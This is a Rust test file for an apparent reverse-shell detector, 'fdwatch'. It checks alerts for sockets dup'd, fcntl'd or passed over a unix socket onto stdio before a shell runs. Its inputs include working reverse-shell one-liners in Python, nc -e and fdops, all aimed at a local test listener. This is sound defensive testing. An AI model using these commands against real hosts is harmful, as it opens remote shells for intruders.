//! stdio_hijack round 2 (issue 15) with real programs: every way a socket reaches
//! stdio (dup, fcntl F_DUPFD/F_DUPFD_CLOEXEC + F_SETFD, SCM_RIGHTS), the shell scripts
//! and port checks that must not be critical, nc -e's throwaway socket (one alert), and
//! scoped allow rules. Each scenario is a /bin/sh -c command line under
//! `fdwatch --pid <root> --follow`, talking to a listener of the test (shells.rs).
use fdwatch_tests::{alerts::*, shells::*, *};

/// The one alert of the whole scenario: panics listing every alert record otherwise.
#[track_caller]
fn only_alert(records: &[Value], what: &str) -> Value {
    let all = alert_records(records);
    assert_eq!(all.len(), 1, "{what}: one alert record, got:\n{all:#?}");
    all[0].clone()
}

fn fdops() -> String {
    fdops_bin().to_str().unwrap().to_string()
}

// ------------------------------------------------------------------ every way onto stdio

/// `close(0); dup(sock); close(1); dup(sock); exec /bin/sh`: no dup2 anywhere.
#[test]
fn close_and_dup_of_a_socket_onto_stdio_then_sh_is_one_critical_alert() {
    let peer = Peer::listen("echo hello-from-dup; exit\n");
    let script = format!(
        "exec {} socket AF_INET SOCK_STREAM 0 connect %socket.ret 127.0.0.1:{} close 0 dup %socket.ret close 1 \
         dup %socket.ret exec /bin/sh",
        fdops(),
        peer.port
    );
    let (root, records) = run_script(&script, &[], "close(0); dup(sock); close(1); dup(sock); exec sh");
    assert!(peer.output("the dup shell").contains("hello-from-dup"), "the shell ran on the socket");
    let alert = only_alert(&records, "close+dup+exec sh");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "critical", "pid": root, "comm": "sh", "exe": "/bin/sh",
            "shape": "socket_onto_stdio", "fds": [0, 1], "object": ANY,
        }),
    );
    assert_eq!(alert["object"]["peer"], format!("127.0.0.1:{}", peer.port), "{alert}");
    find_evidence(&alert, "event", root, "dup", json!({"oldfd": 3}), 0, None);
    find_evidence(&alert, "event", root, "dup", json!({"oldfd": 3}), 1, None);
    let msg = alert["message"].as_str().unwrap();
    assert!(msg.contains("on its stdin (fd 0) and stdout (fd 1), with dup(), then exec'd /bin/sh"), "{msg}");
    assert!(msg.contains("reading its commands from stdin"), "{msg}");
}

/// `fcntl(sock, F_DUPFD_CLOEXEC, 0)` then `fcntl(0, F_SETFD, 0)` (so it survives the
/// exec), `fcntl(sock, F_DUPFD, 1)` onto the closed fd 1, exec /bin/sh.
#[test]
fn fcntl_dupfd_onto_stdio_then_sh_is_one_critical_alert() {
    let peer = Peer::listen("echo hello-from-fcntl; exit\n");
    let script = format!(
        "exec {} socket AF_INET SOCK_STREAM 0 connect %socket.ret 127.0.0.1:{} close 0 \
         fcntl %socket.ret F_DUPFD_CLOEXEC 0 fcntl 0 F_SETFD 0 close 1 fcntl %socket.ret F_DUPFD 1 exec /bin/sh",
        fdops(),
        peer.port
    );
    let (root, records) = run_script(&script, &[], "fcntl F_DUPFD_CLOEXEC + F_SETFD, F_DUPFD, exec sh");
    assert!(peer.output("the fcntl shell").contains("hello-from-fcntl"));
    let alert = only_alert(&records, "fcntl+exec sh");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "critical", "pid": root, "comm": "sh", "exe": "/bin/sh",
            "shape": "socket_onto_stdio", "fds": [0, 1], "object": ANY,
        }),
    );
    find_evidence(&alert, "event", root, "fcntl", json!({"fd": 3, "cmd": "F_DUPFD_CLOEXEC"}), 0, None);
    find_evidence(&alert, "event", root, "fcntl", json!({"fd": 3, "cmd": "F_DUPFD"}), 1, None);
    assert!(alert["message"].as_str().unwrap().contains("with fcntl(F_DUPFD_CLOEXEC) and fcntl(F_DUPFD)"), "{alert}");
}

/// The same copies left close-on-exec: the exec drops them, the shell has no socket.
#[test]
fn f_dupfd_cloexec_copies_that_the_exec_drops_raise_nothing() {
    let peer = Peer::listen("");
    let script = format!(
        "exec {} socket AF_INET SOCK_STREAM 0 connect %socket.ret 127.0.0.1:{} close 0 \
         fcntl %socket.ret F_DUPFD_CLOEXEC 0 close 1 fcntl %socket.ret F_DUPFD_CLOEXEC 1 exec /bin/true",
        fdops(),
        peer.port
    );
    let (_, records) = run_script(&script, &[], "F_DUPFD_CLOEXEC copies, exec");
    peer.output("the connection");
    assert_no_alerts(&records, "close-on-exec copies on stdio, gone at exec");
}

/// The socket passed over a unix socket (SCM_RIGHTS) to a process that closed 0 and 1:
/// the received fds land on them, and it execs /bin/sh.
#[test]
fn a_socket_received_over_a_unix_socket_onto_stdio_then_sh_is_one_critical_alert() {
    let peer = Peer::listen("echo hello-from-scm; exit\n");
    let script = format!("exec {} {} {}", python(), helper("scm_shell.py"), peer.port);
    let (root, records) = run_script(&script, &[], "SCM_RIGHTS onto 0 and 1, exec sh");
    assert!(peer.output("the received shell").contains("hello-from-scm"));
    let alert = only_alert(&records, "SCM_RIGHTS shell");
    let child = alert["pid"].as_i64().unwrap();
    assert_ne!(child, root, "the receiving child: {alert}");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "critical", "pid": child, "comm": "sh", "exe": "/bin/sh",
            "shape": "socket_onto_stdio", "fds": [0, 1], "object": ANY,
        }),
    );
    let i = find_evidence(&alert, "event", child, "recvmsg", json!({"scm_rights": [0, 1]}), 1, None);
    assert!(i > 0, "the socket's story comes first: {alert}");
    let fact = facts(&alert).into_iter().find(|f| f["fd"] == 0).expect("a fact about fd 0");
    let text = fact["fact"].as_str().unwrap();
    assert!(text.contains(&format!("sent by pid {root} (python3) and received over a unix socket")), "{text}");
    assert!(alert["message"].as_str().unwrap().contains("recvmsg() of an fd passed over a unix socket"), "{alert}");
}

/// A socket on the stdin of a program that is no shell: a warning naming stdin only.
/// (It lives past the window: one that exits within it could only have used the
/// socket itself, like the port check below, and is dropped.)
#[test]
fn a_socket_dup2_onto_the_stdin_of_a_program_that_is_no_shell_is_a_warning() {
    let peer = Peer::listen("data\n");
    let script = format!(
        "exec {} socket AF_INET SOCK_STREAM 0 connect %socket.ret 127.0.0.1:{} dup2 %socket.ret 0 sleep_ms 500",
        fdops(),
        peer.port
    );
    let (root, records) = run_script(&script, &[], "dup2(sock, 0) in fdops");
    peer.output("the connection");
    let alert = only_alert(&records, "a lone stdin");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "warning", "pid": root, "comm": "fdops", "exe": ANY,
            "shape": "socket_onto_stdio", "fds": [0], "object": ANY,
        }),
    );
    let msg = alert["message"].as_str().unwrap();
    assert!(msg.contains(&format!("what it reads from stdin comes from 127.0.0.1:{}", peer.port)), "{msg}");
    assert!(msg.contains("not a remote shell's shape") && !msg.contains("writes to stdout"), "{msg}");
}

// ------------------------------------------------------------------ false criticals

/// A bash script with a socket on fd 3: builtins redirected for one command (`printf
/// >&3`, `read <&3`: bash saves the stdio fd, dup2s, runs the builtin, dup2s it back)
/// and the `</dev/tcp/host/port` port check of health scripts. Nothing is raised.
#[test]
fn bash_one_command_redirections_to_a_socket_and_the_dev_tcp_port_check_raise_nothing() {
    let peer = Peer::listen("line-from-peer\n");
    let check = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let script = format!(
        "exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}; printf \"GET /\\n\" >&3; read -r line <&3; \
         test \"$line\" = line-from-peer; if timeout 5 bash -c \"</dev/tcp/127.0.0.1/{}\"; then echo port-open; fi; \
         exec 3>&-'",
        peer.port,
        check.local_addr().unwrap().port()
    );
    let (_, records) = run_script(&script, &[], "bash printf >&3, read <&3, </dev/tcp port check");
    assert!(peer.output("the script's connection").contains("GET /"), "printf reached the peer");
    assert_no_alerts(&records, "one-command redirections to a socket, and the port check");
}

/// `cat <&3`: a child puts the socket on its stdin and becomes cat. A lone stdin on a
/// program that is no shell: a warning at most, never critical.
#[test]
fn cat_reading_the_socket_of_a_bash_script_is_a_warning_not_a_reverse_shell() {
    let peer = Peer::listen("some-data\n");
    let script = format!("exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}; timeout 1 cat <&3 >/dev/null; true'", peer.port);
    let (_, records) = run_script(&script, &[], "bash cat <&3");
    drop(peer);
    let alert = only_alert(&records, "cat <&3");
    let pid = alert["pid"].as_i64().unwrap();
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "warning", "pid": pid, "comm": "timeout", "exe": ANY,
            "shape": "socket_onto_stdio", "fds": [0], "object": ANY,
        }),
    );
    find_evidence(&alert, "event", pid, "dup2", json!({"oldfd": 3, "newfd": 0}), 0, None);
}

/// nc.traditional -e started with stdin closed: its throwaway socket() lands on fd 0,
/// the connected one is dup2'd over it and onto fd 1, then /bin/sh. One reverse shell,
/// not a landing plus a statsd-style clobber.
#[test]
fn nc_traditional_e_is_one_reverse_shell_alert() {
    let peer = Peer::listen("echo hello-from-nc; exit\n");
    let script = format!("exec nc.traditional -e /bin/sh 127.0.0.1 {} <&-", peer.port);
    let (root, records) = run_script(&script, &[], "nc.traditional -e /bin/sh <&-");
    assert!(peer.output("the nc -e shell").contains("hello-from-nc"));
    let alert = only_alert(&records, "nc -e");
    assert_alert(
        &alert,
        json!({
            "kind": "stdio_hijack", "severity": "critical", "pid": root, "comm": "sh", "exe": "/bin/sh",
            "shape": "socket_onto_stdio", "fds": [0, 1], "object": ANY,
        }),
    );
    // The throwaway socket's landing is part of the same story.
    find_evidence(&alert, "event", root, "socket", json!({"domain": "AF_INET"}), 0, None);
    find_evidence(&alert, "event", root, "dup2", json!({"oldfd": 3, "newfd": 0}), 0, None);
    find_evidence(&alert, "event", root, "dup2", json!({"oldfd": 0, "newfd": 1}), 1, None);
}

// ------------------------------------------------------------------ scoped allow rules

/// A python reverse shell (dup2 onto 0, 1, 2, exec sh -i) to `port`, under `extra`.
fn python_reverse_shell(port: u16, extra: &[&str]) -> (i64, Vec<Value>) {
    let code = format!(
        "import socket,os;s=socket.create_connection((\"127.0.0.1\",{port}));\
         [os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/sh\",[\"sh\",\"-i\"])"
    );
    let script = format!("exec {} -c '{code}'", python());
    run_script(&script, extra, "python reverse shell")
}

#[test]
fn an_allow_rule_scoped_to_a_peer_silences_that_peer_only() {
    let cgi = Peer::listen("exit\n");
    let rule = format!("comm=python3,peer=127.0.0.1:{}", cgi.port);
    let (_, records) = python_reverse_shell(cgi.port, &["--allow", &rule]);
    cgi.output("the allowed peer");
    assert_no_alerts(&records, "python3 to its allowed peer");

    let attacker = Peer::listen("exit\n");
    let (root, records) = python_reverse_shell(attacker.port, &["--allow", &rule]);
    attacker.output("the other peer");
    let alert = only_alert(&records, "python3 to another peer");
    assert_eq!((alert["pid"].as_i64(), alert["severity"].as_str()), (Some(root), Some("critical")), "{alert}");
    assert_eq!(alert["shape"], "socket_onto_stdio");
}

#[test]
fn an_allow_rule_that_does_not_parse_is_a_usage_error() {
    let fw = Fdwatch::spawn_raw(&["--allow", "comm=x,user=root"]);
    let (status, _, stderr) = fw.outcome(DEADLINE);
    assert_eq!(status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("unknown key \"user\""), "{stderr}");
}
